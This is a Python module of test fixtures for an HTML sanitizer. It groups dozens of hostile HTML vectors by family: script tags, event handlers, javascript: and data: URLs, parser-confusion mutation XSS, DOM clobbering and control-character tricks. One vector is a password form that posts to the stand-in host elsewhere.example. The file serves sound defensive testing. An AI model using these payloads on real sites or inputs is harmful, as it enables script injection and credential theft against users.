"""Hostile HTML, written for this project: one family after another, each with its idea.

Every vector that could run a script calls `owned()`, so that the tests in a real browser can see
whether one did, and every vector that could send a request sends it to `elsewhere.example`.
"""

from __future__ import annotations

VECTORS: dict[str, tuple[str, ...]] = {
    "script elements": (
        "<script>owned()</script>",
        "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
        "<p>kept</p><script type=module>owned()</script>",
        "<scr<script>ipt>owned()</scr</script>ipt>",
        "<script/x>owned()</script/x>",
        "<svg><script href='data:,owned()'/></svg>",
    ),
    "event handlers": (
        "<img src=/media/none.png onerror=owned()>",
        '<p onclick="owned()" onpointerover=owned()>read me</p>',
        "<img src=x:x/onerror=owned()//>",
        '<a href="/x" onfocus=owned() autofocus tabindex=1>focus</a>',
        "<table onmouseenter=owned()><tr><td onclick=owned()>x</td></tr></table>",
        "<h2 id=a onanimationstart=owned() style=animation-name:x>Title</h2>",
        "<details open ontoggle=owned()><summary>x</summary></details>",
        "<body onload=owned()><p>body</p>",
        '<img/src="/media/x.png"/onerror="owned()"/>',
    ),
    "addresses that run": (
        '<a href="javascript:owned()">x</a>',
        '<a href="JaVaScRiPt:owned()">x</a>',
        '<a href=" \x01javascript:owned()">x</a>',
        '<a href="java\nscript:owned()">x</a>',
        '<a href="java&Tab;script&colon;owned()">x</a>',
        '<a href="&#106;avascript&#58;owned()">x</a>',
        '<a href="vbscript:owned()">x</a>',
        '<a href="data:text/html,<script>owned()</script>">x</a>',
        '<a href="view-source:javascript:owned()">x</a>',
        '<img src="javascript:owned()">',
        '<img src="data:image/svg+xml,<svg onload=owned() xmlns=http://www.w3.org/2000/svg>">',
        '<a href="blob:https://elsewhere.example/1">x</a>',
        '<form action="javascript:owned()"><button>x</button></form>',
        '<a xlink:href="javascript:owned()">x</a>',
    ),
    "addresses that lead elsewhere": (
        '<a href="//elsewhere.example/">x</a>',
        '<a href="/\\elsewhere.example/">x</a>',
        '<a href="/\t/elsewhere.example/">x</a>',
        '<a href="\\\\elsewhere.example/">x</a>',
        '<a href="https://clinic.example@elsewhere.example/">x</a>',
        '<img src="https://elsewhere.example/pixel.gif">',
        '<img src="//elsewhere.example/pixel.gif">',
        '<img src="/media/../admin/logout/">',
        '<img src="/media/%2e%2e/admin/">',
        '<img src="/admin/logout/">',
        '<img src="/media/a.png" srcset="https://elsewhere.example/a.png 2x">',
        '<picture><source srcset="//elsewhere.example/a"><img src="/media/a.png"></picture>',
        '<table background="//elsewhere.example/b.png"><tr><td>x</td></tr></table>',
        '<a href="/x" ping="https://elsewhere.example/">x</a>',
        '<video poster="//elsewhere.example/p" src="//elsewhere.example/v"></video>',
        '<base href="https://elsewhere.example/"><a href="/x">x</a>',
        '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
        '<link rel=stylesheet href="//elsewhere.example/s.css">',
        '<blockquote cite="javascript:owned()">x</blockquote>',
    ),
    "styles": (
        "<style>@import '//elsewhere.example/s.css'; p{color:red}</style><p>x</p>",
        '<p style="position:fixed;inset:0;background:url(//elsewhere.example/b)">x</p>',
        '<p style="width: expression(owned())">x</p>',
        '<figure class="image admin-menu"><img src="/media/a.png" class="cover"></figure>',
    ),
    "parsers that disagree": (
        '<svg></p><style><a id="</style><img src=1 onerror=owned()>">',
        (
            '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
            'onerror=owned()&gt;">'
        ),
        '<noscript><p title="</noscript><img src=x onerror=owned()>">',
        "<textarea><img src=x onerror=owned()></textarea>",
        "<title><a href='</title><img src=x onerror=owned()>'></title>",
        "<template><img src=x onerror=owned()></template>",
        (
            '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img '
            'onerror=owned() src=1>">'
        ),
        "<select><style></select><img src=x onerror=owned()></style>",
        "<!--><img src=x onerror=owned()>-->",
        "<!--[if gte IE 4]><script>owned()</script><![endif]-->",
        "<![CDATA[<img src=x onerror=owned()>]]>",
        "<?xml version='1.0'?><p>x</p>",
        "<xmp><p title='</xmp><img src=x onerror=owned()>'></xmp>",
        "<plaintext><img src=x onerror=owned()>",
        "<p title='`<img src=x onerror=owned()>`'>x</p>",
        "<table><tr><td><table><tr><td></table><img src=x onerror=owned()></td>",
    ),
    "frames, forms and other programs": (
        '<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
        '<iframe src="javascript:owned()"></iframe>',
        '<object data="javascript:owned()"></object>',
        '<embed src="//elsewhere.example/x.swf">',
        '<form action="//elsewhere.example/"><input name=password><button>Log in</button></form>',
        "<isindex action=javascript:owned() type=image>",
        "<marquee onstart=owned()>x</marquee>",
        "<x-custom onfocus=owned() autofocus tabindex=1>x</x-custom>",
    ),
    "names that shadow the page": (
        '<h2 id="location">x</h2>',
        '<img name="cookie" src="/media/a.png">',
        '<a id="owned" name="owned" href="/x">x</a>',
        '<form id="document"><p id="body">x</p></form>',
    ),
    "characters": (
        "<p>null\x00byte and bell\x07 and <scr\x00ipt>owned()</script></p>",
        "<p>approved \u202edrow rehto na\u202c</p>",
        "<p\u0338 onclick=owned()>x</p>",
        "<p>\ufdd0\uffff\ud800</p>",
        "<img\x0csrc=/media/x.png\x0conerror=owned()>",
        "<p>&#0;&#8;&#x202e;&#xfeff;x</p>",
    ),
}

ALL: tuple[str, ...] = tuple(vector for family in VECTORS.values() for vector in family)
